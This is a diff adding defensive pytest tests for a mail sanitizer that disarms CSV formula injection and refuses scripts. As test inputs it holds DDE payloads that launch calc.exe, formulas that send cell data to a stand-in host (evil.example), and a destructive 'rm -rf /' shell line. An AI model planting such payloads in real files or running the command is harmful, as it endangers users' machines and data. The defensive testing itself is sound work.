@@ -1,0 +1,90 @@
+"""Text stays, formulas that start programs become text, scripts are refused."""
+
+from __future__ import annotations
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from mailguard.attachments.detect import detect
+from mailguard.message.content import Content
+from mailguard.sanitize import text
+from mailguard.sanitize.disarmed import Options, Refused
+
+
+def _disarm(content, mime="text/csv"):
+    return text.disarm(content, mime, Options())
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        b"a,b\r\n1,-5\r\n+81-3-1234,=1+2\r\n",
+        b'="00123",=SUM(A1:A5)',
+        b"- item (x), @name",
+        "名前,金額\n山田,100\n".encode("cp932"),
+    ],
+)
+def test_ordinary_tables_stay_as_they_are(content):
+    assert _disarm(content).data is content
+
+
+@pytest.mark.parametrize(
+    "cell",
+    [
+        b"=cmd|'/c calc'!A1",
+        b"\"=2+5+cmd|' /C calc'!A0\"",
+        b"@SUM(1+1)*cmd|'/c calc'!A0",
+        b"+cmd|'/c calc'!A0",
+        b" =MSEXCEL|'\\..\\calc.exe'!''",
+    ],
+)
+def test_calls_of_programs_become_text(cell):
+    content = b"a," + cell + b",c\n"
+    assert "dde" in detect(Content.of(content), ["a.csv"], "text/csv").dangerous
+    result = _disarm(content)
+    assert result.removed == ("formula",)
+    assert result.data.startswith(b"a,")
+    assert detect(Content.of(result.data), ["a.csv"], "text/csv").dangerous == ()
+    assert _disarm(result.data).data is result.data
+
+
+@pytest.mark.parametrize(
+    "cell",
+    [b'=HYPERLINK("http://evil.example/?"&A1,"x")', b'=WEBSERVICE("http://evil.example")', b'=IMPORTXML("x","y")'],
+)
+def test_formulas_that_reach_out_become_text(cell):
+    assert _disarm(cell).data == b"(formula) " + cell
+
+
+def test_utf_16_tables_are_read_as_such():
+    result = _disarm("\ufeffa\t=cmd|'/c calc'!A1".encode("utf-16-le"))
+    assert result.data.decode("utf-16") == "a\t(formula) =cmd|'/c calc'!A1"
+
+
+@pytest.mark.parametrize("content", [b"#!/bin/sh\nrm -rf /", b"[InternetShortcut]\nURL=file:x", b"a\0b"])
+def test_scripts_and_binaries_are_refused(content):
+    with pytest.raises(Refused, match="not-understood"):
+        _disarm(content, "text/plain")
+
+
+def test_a_page_under_the_label_of_text_is_refused():
+    with pytest.raises(Refused, match="ambiguous"):
+        _disarm(b"<html><script>x</script>", "text/plain")
+
+
+@settings(max_examples=100, deadline=None)
+@given(
+    st.lists(
+        st.sampled_from(
+            [b"=", b"+", b"cmd|'", b"'!A", b",", b'"', b"\n", b"(", b")", b"x", b"SUM", b"\0", b"\xff\xfe"]
+        ),
+        max_size=40,
+    ).map(b"".join)
+)
+def test_any_table_is_refused_or_without_calls(content):
+    try:
+        result = _disarm(content)
+    except Refused:
+        return
+    assert "dde" not in detect(Content.of(result.data), ["a.csv"], "text/csv").dangerous
